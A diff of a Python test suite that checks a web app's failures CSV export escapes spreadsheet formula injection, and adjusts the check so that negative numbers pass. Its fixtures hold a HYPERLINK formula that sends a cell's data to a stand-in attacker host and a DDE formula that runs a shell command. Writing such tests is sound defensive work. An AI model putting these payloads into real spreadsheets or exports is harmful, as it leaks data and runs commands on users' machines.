@@ -203,6 +203,14 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
 def test_16_failures_csv_neutralises_formula_looking_text_from_machines(burnt_in, person):
     policy = burnt_in.requirements["gpu-diag"].policy
     for n, evil in enumerate((HYPERLINK, DDE)):
@@ -217,15 +225,15 @@ def test_16_failures_csv_neutralises_formula_looking_text_from_machines(burnt_in
     response = person(VIEWER).get("/sites/lon-1/failures.csv?order=target")
     body = b"".join(response.streaming_content).decode()
     rows = list(csv.DictReader(io.StringIO(body)))
-    failed = {
-        r["requirement"]: r["failing_rules"] for r in rows if r["requirement"].startswith("evil") and r["failing_rules"]
-    }
+    failed = {r["requirement"]: r["rule"] for r in rows if r["requirement"].startswith("evil") and r["rule"]}
     assert failed["evil-0"].startswith("'" + HYPERLINK) and failed["evil-1"].startswith("'" + DDE)
     errors = [r["error"] for r in rows if r["verdict"] == "errored"]
     assert {"'" + HYPERLINK, "'" + DDE, "'-2+3"} <= set(errors)
-    # No cell of the file starts a formula any more; our own numbers are still plain numbers.
+    # No text cell of the file starts a formula any more; our own numbers (a margin of −100 %
+    # is written -100.0) are still plain numbers.
     cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
-    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
+    assert {r["margin_pct"] for r in rows if r["requirement"].startswith("evil") and r["rule"]} == {"-100.0"}
     assert all(r["attempts"].isdigit() for r in rows)
     assert RC in {r["resource_class"] for r in rows}
 
